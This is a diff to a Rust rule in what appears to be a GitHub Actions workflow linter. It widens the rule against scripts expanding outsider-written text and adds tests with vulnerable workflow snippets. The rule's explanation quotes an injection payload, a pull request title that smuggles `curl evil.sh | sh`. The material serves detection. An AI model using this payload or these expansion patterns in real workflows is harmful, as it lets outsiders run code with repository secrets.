@@ -13,10 +13,16 @@ impl Rule for TemplateInjection {
         severity: Severity::High,
         area: Area::Pipeline,
         title: "Scripts never expand text an outsider wrote",
-        what: "No `run:` script and no `actions/github-script` script expands an expression an \
-               outsider controls: the title or body of an issue, pull request, comment or \
-               review, a branch name (`github.head_ref`, `…head.ref`), a commit message or \
-               author, a wiki page name.",
+        what: "No `run:` script and no `actions/github-script` script expands an expression \
+               whose value can be text an outsider writes: the title or body of an issue, pull \
+               request, discussion, comment or review, a pull request's branch \
+               (`github.head_ref`, `…head.ref`, `…head.label`, a workflow run's `head_branch`) \
+               or its fork's description, a commit's message, author, committer or file names, \
+               a wiki page's name, title or summary, or an object that holds one \
+               (`toJSON(github.event.pull_request)`). Values the expression only tests \
+               (`contains(…)`, `==`, `!`) are `true` or `false`; branch and tag names of the \
+               repository itself, inputs and step outputs are set by its maintainers or the \
+               workflow.",
         why: "GitHub pastes `${{ … }}` into the script before the shell or Node reads it: a pull \
               request titled `a\"; curl evil.sh | sh; echo \"` runs that command on the runner, \
               with the job's token and secrets. Passing the value through an environment \
@@ -115,5 +121,40 @@ mod tests {
             ),
             ["workflow.jobs.a.steps[0].with.script"]
         );
+    }
+
+    fn audited(script: &str) -> Vec<String> {
+        let yaml = format!("on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: |\n          {script}\n");
+        super::super::file::flags(&TemplateInjection, &yaml)
+    }
+
+    #[test]
+    fn passes_on_tests_and_on_maintainers_text() {
+        for script in [
+            "test \"${{ contains(github.event.pull_request.body, '[skip]') }}\" = true",
+            "echo ${{ github.event.pull_request.number }} ${{ github.event.pull_request.head.sha }}",
+            "echo \"${{ github.event.release.body }}\" \"${{ github.event.pull_request.base.ref }}\"",
+            "echo ${{ !startsWith(github.head_ref, 'dependabot/') }}",
+        ] {
+            assert!(audited(script).is_empty(), "{script}");
+        }
+    }
+
+    #[test]
+    fn fails_on_an_outsiders_text_however_it_is_reached() {
+        for script in [
+            "echo '${{ toJSON(github.event.pull_request) }}'",
+            "echo ${{ github.event.comment.path }}",
+            "git log -1 --format='${{ format('{0}', github.event.head_commit.message) }}'",
+            "echo ${{ github.event.workflow_run.head_commit.author.email || 'none' }}",
+            "echo ${{ github.event_name == 'pull_request' && github.head_ref || github.ref_name }}",
+            "echo \"${{ github.event.commits[0].added[0] }}\"",
+        ] {
+            assert_eq!(
+                audited(script),
+                ["workflow.jobs.a.steps[0].run"],
+                "{script}"
+            );
+        }
     }
 }
